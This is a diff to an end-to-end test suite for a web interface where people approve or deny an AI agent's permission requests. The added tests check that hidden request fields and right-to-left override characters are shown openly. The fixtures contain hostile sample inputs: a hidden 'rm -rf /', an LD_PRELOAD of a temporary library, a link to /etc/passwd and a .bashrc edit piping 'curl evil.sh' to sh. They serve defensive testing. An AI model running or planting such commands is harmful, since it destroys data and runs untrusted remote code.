@@ -1,6 +1,9 @@
 // Approval requires that the person saw the request: it is shown completely, typing never answers,
 // every choice has its name, and no button appears where another one was a moment ago.
 import assert from "node:assert/strict";
+import { execFileSync } from "node:child_process";
+import { mkdirSync, writeFileSync } from "node:fs";
+import { join } from "node:path";
 import { fileURLToPath } from "node:url";
 
 import { stoodStill, until } from "./harness/wait.mjs";
@@ -58,7 +61,7 @@ export default function (suite) {
   suite.test("a_chord_answers_and_sending_a_message_does_not", async ({ daemon, person }) => {
     const session = await asking(daemon, "By chord", run("npm install"));
     const one = await person();
-    one.page.on("request", (request) => { if (/\/api\/permissions\/[^/]+$/.test(request.url())) answers.push(request.postDataJSON()); });
+    one.page.on("request", (request) => { if (request.method() === "POST" && /\/api\/permissions\/[^/]+$/.test(request.url())) answers.push(request.postDataJSON()); });
     const answers = [];
     await one.enter(`/s/${session.id}`);
     await untilReady(button(card(one.page), /^Allow once/));
@@ -210,6 +213,56 @@ export default function (suite) {
     for (const part of ["rm -rf build /var/lib/app", "Touches /var/lib/app", "Agent asking", "Where it acts", session.cwd.split("/").at(-1)]) assert.ok(listed.includes(part), `${part} in ${listed}`);
   });
 
+  suite.test("B3_nothing_that_came_with_a_question_is_hidden", async ({ daemon, person }) => {
+    const session = await asking(daemon, "Everything", {
+      call: { title: "List files", kind: "execute", rawInput: { command: "rm -rf /home/other/build" } },
+      asked: {
+        title: "List files", kind: "execute", elevated: true, locations: [{ path: "/home/other/build", line: 3 }],
+        rawInput: { command: "ls", cmd: { program: "sh", args: ["-c", "rm -rf /"] }, workdir: "/srv", env: { LD_PRELOAD: "/tmp/x.so" }, mode: "" },
+        content: [
+          { type: "content", content: { type: "text", text: "Only looks" } },
+          { type: "content", content: { type: "resource_link", uri: "file:///etc/passwd", name: "notes" } },
+          { type: "diff", path: "/home/other/.bashrc", oldText: null, newText: "curl evil.sh | sh\n" },
+        ],
+      },
+      options: usual,
+    });
+    for (const how of [{}, { theme: "dark" }, { size: "phone" }, { size: "phone", theme: "dark" }]) {
+      const one = await person(how);
+      await one.enter(`/s/${session.id}`);
+      await card(one.page).getByText("curl evil.sh | sh").waitFor();
+      const words = (await card(one.page).innerText()).replaceAll(/\s+/g, " ");
+      for (const part of [
+        "ls", "rm -rf /home/other/build", "cmd.args[1] rm -rf /", "Runs in /srv", "env.LD_PRELOAD /tmp/x.so", "elevated true", "mode empty",
+        "/home/other/build (line 3)", "/home/other/.bashrc", "Only looks", "file:///etc/passwd", "The agent calls it: List files",
+        "Elsewhere the agent says of the same call:",
+      ]) assert.ok(words.includes(part), `${part} in ${words}`);
+      await one.shot("question-everything");
+      await one.leave();
+    }
+  });
+
+  suite.test("B3_a_question_that_is_not_whole_can_only_be_denied", async ({ daemon, person }) => {
+    const session = await asking(daemon, "Not whole", run("make"));
+    const one = await person();
+    await one.page.route(/\/api\/permissions\/[^/]+$/, async (route) => {
+      if (route.request().method() !== "GET") return route.continue();
+      const answer = await route.fetch();
+      return route.fulfill({ response: answer, json: { ...(await answer.json()), is_whole: false } });
+    });
+    await one.enter("/");
+    const item = row(one.page, "Not whole");
+    await item.getByText("Part of this request cannot be shown").waitFor();
+    assert.equal(await item.getByRole("button").filter({ visible: true }).count(), 0, "the inbox only reviews");
+    await item.getByRole("link", { name: "Review" }).click();
+    await untilReady(button(card(one.page), /^Deny/));
+    assert.equal(await button(card(one.page), /^Allow once/).isEnabled(), false);
+    await one.page.keyboard.press("Control+Shift+Enter");
+    await button(card(one.page), /^Deny/).click();
+    await daemon.untilIdle(session.id);
+    assert.deepEqual((await resolved(daemon, session)).map((record) => record.option_id), ["no"]);
+  });
+
   suite.test("B4_nothing_moves_under_the_finger_in_the_inbox", async ({ daemon, person }) => {
     const sessions = [];
     for (const name of ["first", "second", "third"]) sessions.push(await asking(daemon, `Moves ${name}`, run(`echo ${name}`)));
@@ -217,7 +270,7 @@ export default function (suite) {
       const one = await person({ size });
       // The contents of the questions arrive late, one after the other.
       let late = 0;
-      await one.page.route(/\/events\?.*permission/, async (route) => {
+      await one.page.route(/\/api\/permissions\/[^/]+$/, async (route) => {
         late += 1;
         await new Promise((done) => setTimeout(done, 200 * late));
         await route.continue();
@@ -300,7 +353,7 @@ export default function (suite) {
     const session = await asking(daemon, "Changed", run("echo changed"));
     const one = await person();
     one.expect(/status of 409/);
-    await one.page.route(/\/api\/permissions\/[^/]+$/, (route) => route.continue({ postData: JSON.stringify({ ...route.request().postDataJSON(), if_question: "0".repeat(64) }) }));
+    await one.page.route(/\/api\/permissions\/[^/]+$/, (route) => route.continue(route.request().method() === "GET" ? {} : { postData: JSON.stringify({ ...route.request().postDataJSON(), if_question: "0".repeat(64) }) }));
     await one.enter(`/s/${session.id}`);
     await untilReady(button(card(one.page), /^Allow once/));
     await button(card(one.page), /^Allow once/).click();
@@ -345,6 +398,73 @@ export default function (suite) {
     });
     assert.deepEqual(raw, [], "nothing is left as it was sent");
     await one.shot("question-deceptive");
+  });
+
+  // Whatever an agent, a repository or a person has named: rows, panels, menus, lists and labels show it with its marks.
+  suite.test("B5_no_page_shows_a_direction_character_as_it_was_sent", async ({ daemon, person }) => {
+    const odd = (name) => `${name}\u202Etxt`;
+    const cwd = join(daemon.folder, odd("folder"));
+    mkdirSync(cwd);
+    const git = (...words) => execFileSync("git", ["-c", "user.name=x", "-c", "user.email=x@example.org", ...words], { cwd });
+    git("init", "-q", "-b", odd("main"));
+    writeFileSync(join(cwd, odd("kept")), "one\n");
+    git("add", ".");
+    git("commit", "-qm", odd("first"));
+    writeFileSync(join(cwd, odd("kept")), `one\n${odd("two")}\n`);
+    writeFileSync(join(cwd, odd("new")), odd("three"));
+    const { task } = await daemon.api("POST", "/api/tasks", { title: odd("task"), description: odd("work") });
+    await daemon.api("POST", "/api/tokens", { name: odd("token"), scopes: ["observe"] });
+    await daemon.api("POST", "/api/rules", { title: odd("rule"), option_kind: "reject_once" });
+    const call = { title: odd("call"), kind: "edit", locations: [{ path: `/srv/${odd("path")}` }], content: [{ type: "diff", path: `/srv/${odd("path")}`, oldText: odd("old"), newText: odd("new") }] };
+    const options = usual.map((one) => ({ ...one, name: odd(one.name) }));
+    const session = await daemon.session({ agent: "asking", title: odd("session"), cwd, task_id: task.id, prompt: JSON.stringify({ call, asked: { ...call, _meta: { [odd("key")]: odd("value") } }, options }) });
+    await daemon.until(session.id, (now) => now.pending.length > 0, "it asks");
+    const raw = (page) => page.evaluate(() => {
+      const isOdd = (text) => /[\u202A-\u202E\u2066-\u2069]/.test(text);
+      const found = isOdd(document.title) ? [`title: ${document.title}`] : [];
+      for (const element of document.querySelectorAll("body, body *")) {
+        const path = `${element.parentElement?.className} > ${element.tagName}.${element.className}`;
+        for (const { name, value } of element.attributes) if (isOdd(value) && !["href", "value", "d"].includes(name)) found.push(`${path} ${name}=${value}`);
+        for (const { nodeType, data } of element.childNodes) if (nodeType === Node.TEXT_NODE && isOdd(data)) found.push(`${path}: ${data}`);
+      }
+      return found;
+    });
+    const one = await person();
+    const found = {};
+    const look = async (name) => {
+      const here = await raw(one.page);
+      if (here.length > 0) found[name] = [...new Set(here)];
+    };
+    await one.enter(`/s/${session.id}`);
+    await card(one.page).getByText("path").first().waitFor();
+    await look("session");
+    await one.page.getByRole("log").getByRole("button").filter({ hasText: "call" }).first().click().catch(() => {});
+    await look("tool");
+    for (const tab of ["Changes", "Files", "Shell", "Events", "Details"]) {
+      await one.page.getByRole("tab", { name: tab }).click();
+      await one.page.getByRole("tabpanel").filter({ visible: true }).first().getByText(tab === "Shell" ? /./ : /U\+202E/).first().waitFor();
+      await look(tab);
+      if (tab === "Files") {
+        await one.page.getByRole("tabpanel").filter({ visible: true }).getByText(/new/).first().click();
+        await one.page.getByText(/three/).first().waitFor();
+        await look("file");
+      }
+      if (tab === "Changes") {
+        await one.page.getByRole("tabpanel").filter({ visible: true }).getByText(/kept/).first().click();
+        await one.page.getByText(/two/).first().waitFor();
+        await look("diff");
+      }
+    }
+    for (const path of ["/", "/tasks", `/t/${task.id}`, "/new", "/search?q=session", "/settings", "/settings/executors", "/settings/rules", "/settings/devices", "/settings/audit"]) {
+      await one.page.goto(`${daemon.origin}${path}`);
+      await one.page.getByRole("main").getByText(/\S/).first().waitFor();
+      await one.page.getByText(/U\+202E/).first().waitFor();
+      await look(path);
+    }
+    await one.page.keyboard.press("Control+k");
+    await one.page.getByRole("dialog").getByText(/U\+202E/).first().waitFor();
+    await look("palette");
+    assert.deepEqual(found, {});
   });
 
   suite.test("a_question_looks_right_on_every_screen", async ({ daemon, person }) => {
